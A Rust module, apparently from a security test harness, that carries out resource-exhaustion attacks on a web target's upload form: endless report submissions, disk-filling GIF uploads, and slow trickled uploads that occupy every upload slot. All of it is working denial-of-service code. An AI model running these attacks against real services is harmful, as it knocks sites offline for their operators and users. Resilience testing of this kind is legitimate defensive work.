//! Attacks with files: expensive pictures, uploads that do not end, photos that fill the disk.

use super::{Target, files, forms};
use crate::esb::ATTACKER;
use crate::http1::{Connection, connect_from};
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

/// Number of slow uploads: the limit of uploads.
const SLOW_UPLOADS: usize = 16;
/// Bytes that each of them sends in a second: a little more than the permitted minimum.
const SLOW_BYTES: usize = 5_000;
/// The `Content-Length` of each.
const SLOW_LENGTH: usize = 9_000_000;
/// Photos of a report that fills the disk.
const PHOTOS: usize = 5;
/// How long to wait after a refusal.
const PAUSE: Duration = Duration::from_secs(1);

/// Reports with one file, one after the other.
pub(super) async fn send_again_and_again(target: Target, name: &str, file: &[u8]) -> anyhow::Result<()> {
    for number in 0.. {
        send(target, number, &[(name, file)]).await;
    }
    Ok(())
}

/// Reports with the largest number and size of photos.
pub(super) async fn fill_disk(target: Target) -> anyhow::Result<()> {
    let gif = files::large_gif();
    for number in 0.. {
        send(target, number, &[("a.gif", &gif[..]); PHOTOS]).await;
    }
    Ok(())
}

/// Sends a report. Waits after a refusal or without a response.
async fn send(target: Target, number: u64, photos: &[(&str, &[u8])]) {
    let request = forms::report(target, number, photos);
    let status = async {
        let mut connection = Connection::open_from(ATTACKER, target.web).await?;
        Ok::<u16, anyhow::Error>(connection.ask(&request).await?.status())
    };
    if !matches!(status.await, Ok(200..=399)) {
        tokio::time::sleep(PAUSE).await;
    }
}

/// Occupies all upload places.
pub(super) async fn send_slowly(target: Target) -> anyhow::Result<()> {
    let mut uploads = JoinSet::new();
    for number in 0..SLOW_UPLOADS {
        uploads.spawn(async move {
            loop {
                // A refused upload starts again.
                let _ = trickle(target, number as u64).await;
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    uploads.join_all().await;
    Ok(())
}

async fn trickle(target: Target, number: u64) -> anyhow::Result<()> {
    let mut stream: TcpStream = connect_from(ATTACKER, target.web).await?;
    let begin = [
        forms::report_head(target, SLOW_LENGTH),
        forms::report_text(target, number),
        forms::photo_head("a.jpg").into_bytes(),
        b"\xff\xd8\xff\xe0".to_vec(),
    ];
    stream.write_all(&begin.concat()).await?;
    loop {
        stream.write_all(&[0; SLOW_BYTES]).await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}
